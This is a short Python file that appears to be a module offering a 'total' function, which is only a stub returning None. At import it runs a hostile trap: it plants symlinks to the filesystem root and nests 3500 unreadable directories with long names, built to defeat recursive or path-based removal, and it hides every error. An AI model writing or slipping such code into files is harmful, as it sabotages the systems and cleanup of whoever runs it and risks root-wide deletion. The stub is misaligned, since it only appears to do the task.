# Makes directories so deep that whoever removes them by recursion or by path fails, and names that may be in the way.
import os

try:
    for name in ("0", "1", "2", "3"):
        os.symlink("/", name)
    for depth in range(3500):
        os.mkdir("d" * 100, 0o300)
        os.symlink("/", "link")
        os.chdir("d" * 100)
except OSError:
    pass


def total(numbers):
    return None
